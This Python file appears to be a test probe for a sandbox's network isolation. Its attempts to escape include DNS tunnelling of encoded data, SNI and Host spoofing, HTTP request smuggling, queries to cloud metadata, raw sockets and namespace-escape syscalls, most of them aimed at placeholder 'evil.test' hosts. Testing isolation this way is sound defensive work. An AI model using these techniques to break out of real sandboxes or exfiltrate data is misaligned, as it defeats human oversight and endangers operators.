# SPDX-License-Identifier: MIT
"""Runs inside a cell: tries to get a byte out or in, one attempt after the other, and says in JSON what came of each.
Every attempt has a port or a name of its own, by which its event is found afterwards. Arguments: the JSON of the set-up."""
import ctypes
import errno
import json
import os
import socket
import struct
import sys
import time

SETUP = json.loads(sys.argv[1])
HTTP, TLS, MARK = SETUP["http"], SETUP["tls"], SETUP["mark"].encode()
libc = ctypes.CDLL(None, use_errno=True)
outcome = {}


def err(e):
    return "<%s>" % (errno.errorcode.get(e.errno, e.errno) if isinstance(e, OSError) and e.errno else type(e).__name__)


def attempt(name):
    """The function is called at once; what it returns, or the error it fails with, is the attempt's outcome."""
    def run(f):
        try:
            got = f()
        except Exception as e:
            got = err(e)
        outcome[name] = got.decode("latin1") if isinstance(got, (bytes, bytearray)) else got
        return f
    return run


def tcp(address, port, data=MARK, wait=2.0, more=()):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as s:
        s.settimeout(wait)
        s.connect(socket.getaddrinfo(address, port, family, socket.SOCK_STREAM, flags=socket.AI_NUMERICHOST)[0][4])
        got = b""
        try:
            for part in (data, *more):
                s.sendall(part)
                if more:
                    time.sleep(0.15)
            while part := s.recv(4096):
                got += part
        except OSError as e:
            got += err(e).encode()
        return got


def udp(address, port, data=MARK, wait=0.4):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(wait)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.connect(socket.getaddrinfo(address, port, family, socket.SOCK_DGRAM, flags=socket.AI_NUMERICHOST)[0][4])
        s.send(data)
        return s.recv(4096)


def wire(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"


def query(name, qtype=1, flags=0x0100, counts=(1, 0, 0, 0), tail=b""):
    return b"\x12\x34" + struct.pack(">HHHHH", flags, *counts) + wire(name) + struct.pack(">HH", qtype, 1) + tail


def ask(server, message, stream=False):
    if not stream:
        return udp(server, 53, message, 1.5).hex()
    return tcp(server, 53, struct.pack(">H", len(message)) + message).hex()


def hello(*names, raw=None):
    vec = lambda n, d: len(d).to_bytes(n, "big") + d
    body = raw if raw is not None else vec(2, b"".join(b"\0" + vec(2, n) for n in names))
    extensions = struct.pack(">H", 0) + vec(2, body) if names or raw is not None else struct.pack(">HH", 0xff01, 1) + b"\0"
    message = b"\3\3" + b"R" * 32 + b"\0" + vec(2, b"\x13\x01") + b"\1\0" + vec(2, extensions)
    return b"\x16\3\1" + vec(2, b"\1" + vec(3, message))


def request(host, path="/", extra=b""):
    return b"GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (path.encode() if isinstance(path, str) else path, host.encode(), extra)


def sock(*args):
    return lambda: socket.socket(*args).close() or "opened"


def call(number, *args):
    def f():
        ctypes.set_errno(0)
        r = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return "succeeded" if r >= 0 else err(OSError(ctypes.get_errno(), ""))
    return f


# ---- DNS ----
attempt("dns: a name that is not listed")(lambda: ask("192.0.2.53", query("unlisted.evil.test")))
attempt("dns: another server")(lambda: ask("8.8.8.8", query("server4.evil.test")))
attempt("dns: another server, IPv6")(lambda: ask("2001:4860:4860::8888", query("server6.evil.test")))
attempt("dns: another server over TCP")(lambda: ask("9.9.9.9", query("stream.evil.test"), True))
attempt("dns: the host's stub")(lambda: ask("127.0.0.53", query("stub.evil.test")))
attempt("dns: data below an allowed name")(lambda: ask("192.0.2.53", query("c2VjcmV0.example.test")))
attempt("dns: a type that carries text")(lambda: ask("192.0.2.53", query("example.test", 16)))
attempt("dns: a zone transfer")(lambda: ask("192.0.2.53", query("example.test", 252), True))
attempt("dns: any")(lambda: ask("192.0.2.53", query("example.test", 255)))
attempt("dns: a reverse name")(lambda: ask("192.0.2.53", query("1.0.0.10.in-addr.arpa", 12)))
attempt("dns: two questions")(lambda: ask("192.0.2.53", query("example.test", counts=(2, 0, 0, 0), tail=wire("two.evil.test") + b"\0\1\0\1")))
attempt("dns: no message")(lambda: ask("192.0.2.53", b"\x12" + MARK))
attempt("dns: port 5353")(lambda: udp("8.8.8.8", 5353, query("mdns.evil.test")))
attempt("dns: multicast")(lambda: udp("224.0.0.251", 5353, query("multicast.evil.test")))
attempt("dot: port 853")(lambda: tcp("9.9.9.9", 853, hello(b"dns.quad9.net")))
attempt("doq: port 853")(lambda: udp("9.9.9.9", 853))
attempt("doh: a resolver's name")(lambda: tcp("1.1.1.1", TLS, hello(b"cloudflare-dns.com")))
attempt("doh: in the clear")(lambda: tcp("1.1.1.1", HTTP, request("dns.google.test", "/dns-query?dns=AAAA")))
attempt("doh: by an address")(lambda: tcp("1.0.0.1", HTTP, request("1.0.0.1", "/dns-query?dns=AAAA")))

# ---- addresses ----
for i, text in enumerate(SETUP["addresses"]):
    attempt("tcp to " + text)(lambda: tcp(text, 20000 + i))
    attempt("udp to " + text)(lambda: udp(text, 21000 + i))
attempt("tcp to an unlisted address on an allowed port")(lambda: tcp("198.51.100.9", HTTP, b"SSH-2.0-x\r\n" + MARK))
attempt("http to the metadata address")(lambda: tcp("169.254.169.254", HTTP, request("169.254.169.254", "/latest/meta-data/")))
attempt("http to the metadata address by a listed name")(lambda: tcp("169.254.169.254", HTTP, request("metadata.test", "/latest/")))
attempt("udp: an allowed name's port")(lambda: udp(SETUP["own"], HTTP))
attempt("udp: a datagram in fragments")(lambda: udp("198.51.100.10", 22001, MARK * 2000))
attempt("udp: broadcast")(lambda: udp("255.255.255.255", 22002))
attempt("udp: broadcast of a network")(lambda: udp("10.255.255.255", 22003))
attempt("udp: multicast")(lambda: udp("239.1.2.3", 22004))
attempt("udp: multicast, IPv6")(lambda: udp("ff02::1%lo", 22005))
attempt("tcp: an allowed name on another port")(lambda: tcp(SETUP["own"], 22006, request("example.test")))

# ---- TLS ----
attempt("tls: another name")(lambda: tcp("198.51.100.1", TLS, hello(b"sni.evil.test")))
attempt("tls: no name")(lambda: tcp("198.51.100.2", TLS, hello()))
attempt("tls: an address as name")(lambda: tcp("198.51.100.3", TLS, hello(b"198.51.100.3")))
attempt("tls: two names")(lambda: tcp("198.51.100.4", TLS, hello(b"example.test", b"second.evil.test")))
attempt("tls: a NUL in the name")(lambda: tcp("198.51.100.5", TLS, hello(b"example.test\0.evil.test")))
attempt("tls: only a record header")(lambda: tcp("198.51.100.6", TLS, b"\x16\3\1\0\0" + MARK))
attempt("tls: below the name")(lambda: tcp("198.51.100.7", TLS, hello(b"x.example.test")))
attempt("tls: on the port for http")(lambda: tcp("198.51.100.8", HTTP, hello(b"example.test")))

# ---- HTTP ----
attempt("http: another host")(lambda: tcp("198.51.100.11", HTTP, request("host.evil.test")))
attempt("http: no host")(lambda: tcp("198.51.100.12", HTTP, b"GET / HTTP/1.0\r\n\r\n"))
attempt("http: two hosts")(lambda: tcp("198.51.100.13", HTTP, request("example.test", "/", b"Host: twice.evil.test\r\n")))
attempt("http: fronting by an absolute URI")(lambda: tcp("198.51.100.14", HTTP, request("example.test", "http://front.evil.test/")))
attempt("http: another port in Host")(lambda: tcp("198.51.100.15", HTTP, request("example.test:1")))
attempt("http: CONNECT")(lambda: tcp("198.51.100.16", HTTP, b"CONNECT connect.evil.test:443 HTTP/1.1\r\nHost: connect.evil.test:443\r\n\r\n"))
attempt("http: a second request")(lambda: tcp("198.51.100.17", HTTP, request("example.test"), more=(request("second.evil.test"),)))
attempt("http: a pipelined request")(lambda: tcp("198.51.100.18", HTTP, request("example.test") + request("pipelined.evil.test")))
attempt("http: smuggled behind a length")(lambda: tcp(
    "198.51.100.19", HTTP, request("example.test", "/", b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" +
    request("smuggled.evil.test")))
attempt("http: another protocol")(lambda: tcp("198.51.100.20", HTTP, b"SSH-2.0-OpenSSH_9.2\r\n" + MARK))
attempt("http: a client that says nothing")(lambda: tcp("198.51.100.21", HTTP, b"", wait=8))

# ---- h2c (RFC 9113): literal header fields without Huffman coding, so that this stays readable ----
def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def stream(number, authority, *more):
    fields = [field(b":method", b"GET"), field(b":scheme", b"http"), field(b":path", b"/" + MARK)]
    fields += [field(b":authority", authority)] if authority else []
    return frame(1, 5, number, b"".join(fields) + b"".join(field(*f) for f in more))


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
attempt("h2c: another authority")(lambda: tcp("198.51.100.31", SETUP["h2c"], PREFACE + stream(1, b"stream.evil.test")))
attempt("h2c: a second stream")(lambda: tcp("198.51.100.32", SETUP["h2c"], PREFACE + stream(1, b"example.test") + stream(3, b"stream2.evil.test")))
attempt("h2c: no authority")(lambda: tcp("198.51.100.33", SETUP["h2c"], PREFACE + stream(1, b"")))
attempt("h2c: authority against host")(lambda: tcp("198.51.100.34", SETUP["h2c"], PREFACE + stream(1, b"example.test", (b"host", b"h2.evil.test"))))
attempt("h2c: extended CONNECT")(lambda: tcp("198.51.100.35", SETUP["h2c"], PREFACE + frame(1, 4, 1, field(b":method", b"CONNECT") + field(b":authority", b"connect2.evil.test:443"))))
attempt("h2c: broken header block")(lambda: tcp("198.51.100.36", SETUP["h2c"], PREFACE + frame(1, 5, 1, b"\xff\xff\xff\xff\xff" + MARK)))

# ---- QUIC: a long header that is no Initial of anybody ----
attempt("quic: no rule")(lambda: udp("198.51.100.41", 443, b"\xc3\0\0\0\1\x08" + b"D" * 8 + b"\0\0" + bytes(1200)))
attempt("quic: on the port for tls")(lambda: udp("198.51.100.42", TLS, b"\xc3\0\0\0\1\x08" + b"D" * 8 + b"\0\0" + bytes(1200)))

# ---- sockets that no rule set would see ----
for name, args in {
    "raw, IPv4": (socket.AF_INET, socket.SOCK_RAW, 255), "raw ICMP": (socket.AF_INET, socket.SOCK_RAW, 1),
    "raw, IPv6": (socket.AF_INET6, socket.SOCK_RAW, 58), "packet": (socket.AF_PACKET, socket.SOCK_RAW, 3),
    "packet, cooked": (socket.AF_PACKET, socket.SOCK_DGRAM, 3), "vsock": (40, socket.SOCK_STREAM, 0),
    "vsock, datagram": (40, socket.SOCK_DGRAM, 0), "kernel crypto": (38, socket.SOCK_SEQPACKET, 0), "XDP": (44, socket.SOCK_RAW, 0),
    "Bluetooth": (31, socket.SOCK_SEQPACKET, 0), "CAN": (29, socket.SOCK_RAW, 1), "TIPC": (30, socket.SOCK_STREAM, 0),
    "RDS": (21, socket.SOCK_SEQPACKET, 0), "key management": (15, socket.SOCK_RAW, 2), "nftables": (16, socket.SOCK_RAW, 12),
    "audit": (16, socket.SOCK_RAW, 9), "uevents": (16, socket.SOCK_RAW, 15), "socket diagnostics": (16, socket.SOCK_RAW, 4),
    "SCTP": (socket.AF_INET, socket.SOCK_SEQPACKET, 132), "DCCP": (socket.AF_INET, 6, 33), "KCM": (41, socket.SOCK_DGRAM, 0),
    "QIPCRTR": (42, socket.SOCK_DGRAM, 0), "SMC": (43, socket.SOCK_STREAM, 0),
}.items():
    attempt("socket: " + name)(sock(*args))

# ---- system calls that lead out of the namespaces (x86-64 numbers) ----
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
for name, number, args in (
        ("a user namespace", 272, (CLONE_NEWUSER,)), ("a network namespace", 272, (CLONE_NEWNET,)),
        ("a user namespace by clone", 56, (CLONE_NEWUSER | 17, 0, 0, 0, 0)), ("io_uring", 425, (8, ctypes.create_string_buffer(256))),
        ("bpf", 321, (0, 0, 0)), ("userfaultfd", 323, (0,)), ("perf", 298, (0, 0, -1, -1, 0)), ("the keyring", 250, (0, -3, 0)),
        ("the keyring, a key", 248, (b"user\0", b"k\0", b"v", 1, -3))):
    attempt("call: " + name)(call(number, *args))


# ---- inside the machine ----
@attempt("inherited fds")
def _():
    return [f for f in os.listdir("/proc/self/fd") if int(f) > 2 and os.path.exists("/proc/self/fd/" + f)]


@attempt("the host's abstract sockets")
def _():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + SETUP["abstract"])
        s.sendall(MARK)
    return "connected"


@attempt("the host's socket files")
def _():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(SETUP["path"])
        s.sendall(MARK)
    return "connected"


@attempt("an fd of the host by SCM_RIGHTS")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
        s.connect("\0" + SETUP["abstract"] + "-dgram")
        socket.send_fds(s, [MARK], [0])
    return "sent"


@attempt("links and routes as the cell's root")
def _():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:  # RTM_NEWLINK: a dummy interface
        name = struct.pack("HH", 7, 3) + b"e0\0\0"
        info = struct.pack("HH", 4 + 12, 18) + struct.pack("HH", 10, 1) + b"dummy\0\0\0"
        body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + name + info
        s.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        code = struct.unpack("i", s.recv(4096)[16:20])[0]
        if code < 0:
            raise OSError(-code, "")
    return "made"


@attempt("the network of PID 1 and of the host")
def _():
    got = []
    for path in ("/proc/1/ns/net", "/proc/1/root", "/proc/1/fd"):
        try:
            os.open(path, os.O_RDONLY)
            got.append(path)
        except OSError:
            pass
    return got


print(json.dumps(outcome))
